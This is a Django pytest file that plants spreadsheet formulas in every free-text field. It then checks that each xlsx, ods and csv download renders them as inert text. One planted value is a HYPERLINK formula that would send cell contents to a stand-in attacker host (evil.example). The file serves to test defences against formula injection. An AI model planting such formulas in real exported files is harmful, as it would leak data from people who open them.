"""Every download the site offers, walked with a formula planted in every free-text field.

The files are written by ``recommendations.spreadsheets`` alone; this test does not trust that:
it finds the download URLs in the URL configuration (a new download it does not know fails it),
fetches each in each format as the public and as a superuser, and reads the bytes back with
openpyxl, an XML parser and the csv module.
"""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from django.test import Client
from django.urls import get_resolver
from openpyxl import load_workbook

from recommendations import reporting
from recommendations.editions import publish_edition
from recommendations.models import (
    AssessmentStatus,
    ChangeSource,
    ImplementationStatus,
    MandateHolder,
    Recommendation,
    Topic,
)
from recommendations.roles import SECRETARIAT
from recommendations.services import recommendation_update
from tests.conftest import make_user
from tests.test_reporting import submitted_update

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
CONTROL = "\x0b\x01"  # XML forbids these: a writer that kept them would give a broken file
TABLE_NS = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OFFICE_NS = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Every download URL, by URL name, with the query it needs (the edition's slug is filled in).
DOWNLOADS = {
    "matrix_export": ("/matrix.{ext}", ""),
    "detail_export": ("/recommendations/R14.{ext}", ""),
    "mandate_holder_export": ("/mandate-holders/otp.{ext}", ""),
    "mandate_holder_report_export": ("/mandate-holders/otp/report.{ext}", ""),
    "edition_export": ("/editions/{edition}.{ext}", ""),
    "compare_export": ("/compare.{ext}", "?from={edition}&to=live"),
    "my_export": ("/reporting/my-recommendations.{ext}", ""),
}
SPREADSHEETS = ("xlsx", "ods", "csv")


def planted(value: str) -> str:
    return f"{value} {CONTROL}"


@pytest.fixture
def hostile_data(db, dora, secretariat_user):
    """R14 with a formula in every free-text field a download can show, in an edition, and
    changed since (so the comparison lists it)."""
    topic = Topic.objects.create(name=planted(FORMULA), key="hostile")
    otp = MandateHolder.objects.get(slug="otp")
    MandateHolder.objects.filter(pk=otp.pk).update(name=planted("+" + otp.name))
    AssessmentStatus.objects.filter(key="positively_assessed").update(label_en=planted("@SUM(1)"))
    ImplementationStatus.objects.update(label_en=planted("-1+2"))
    r14 = Recommendation.objects.get(number=14)
    r14.section.__class__.objects.filter(pk=r14.section_id).update(title=planted("=1+1"))
    recommendation_update(
        r14,
        changes={
            "short_title": planted(FORMULA),
            "text": planted(FORMULA),
            "public_remarks": planted("\t=1+1"),
            "internal_remarks": planted("\r=1+1"),
            "topics": [topic],
            "implementation_status": ImplementationStatus.objects.first(),
        },
        user=secretariat_user,
        reason="hostile",
        source=ChangeSource.ADMIN,
    )
    update = submitted_update(
        dora,
        action_taken=planted(FORMULA),
        impediments=planted("+1"),
        next_steps=planted("-1"),
    )
    reviewer = make_user("rita", is_staff=True, groups=[SECRETARIAT])
    reporting.accept_update(update, user=reviewer, publish=True)
    edition = publish_edition(title="Hostile edition", user=secretariat_user)
    recommendation_update(
        Recommendation.objects.get(number=14),
        changes={"assessment_status": AssessmentStatus.objects.get(key="positively_assessed")},
        user=secretariat_user,
        reason="after the edition",
        source=ChangeSource.ADMIN,
    )
    return edition


def test_the_walk_knows_every_download():
    """A download added to the URLs without being added here fails this test."""
    downloads = {
        pattern.name
        for pattern in get_resolver("recommendations.urls").url_patterns
        if ":extension>" in str(pattern.pattern)
    }
    assert downloads == set(DOWNLOADS)


def cells_of(content: bytes, extension: str) -> list[tuple[str, bool]]:
    """(text, is it a formula) of every non-empty cell."""
    if extension == "xlsx":
        cells = []
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                cells += [(str(c.value), c.data_type == "f") for c in row if c.value is not None]
        return cells
    if extension == "ods":
        root = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(content)).read("content.xml"))
        return [
            (
                "\n".join("".join(p.itertext()) for p in cell),
                cell.get(f"{{{TABLE_NS}}}formula") is not None
                or cell.get(f"{{{OFFICE_NS}}}value-type") not in (None, "string", "float", "date"),
            )
            for cell in root.iter(f"{{{TABLE_NS}}}table-cell")
            if len(cell)
        ]
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [(value, value.startswith(FORMULA_STARTS)) for row in rows for value in row if value]


@pytest.mark.parametrize("extension", SPREADSHEETS)
@pytest.mark.parametrize("name", DOWNLOADS)
@pytest.mark.parametrize("who", ["public", "superuser", "focal point"])
def test_no_download_holds_a_live_formula(hostile_data, dora, name, extension, who):
    client = Client()
    if who == "superuser":
        client.force_login(make_user("root", is_staff=True, is_superuser=True))
    elif who == "focal point":
        client.force_login(dora)
    path, query = DOWNLOADS[name]
    url = path.format(ext=extension, edition=hostile_data.slug) + query.format(
        edition=hostile_data.slug
    )
    response = client.get(url)
    if name == "my_export" and who == "public":
        assert response.status_code in (302, 403)  # a focal point's own list
        return
    assert response.status_code == 200, url
    cells = cells_of(response.content, extension)
    assert not [text for text, formula in cells if formula], url
    assert not [text for text, _formula in cells if re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)]
    # Not vacuous: each file shows some of what was planted, as text (a superuser is linked to
    # no mandate-holder, so has no list of their own).
    shown = [text for text, _formula in cells if "HYPERLINK" in text or "SUM(1)" in text]
    assert shown or (name, who) == ("my_export", "superuser"), url
    if extension == "csv":
        assert all(text.startswith("'") for text in shown)
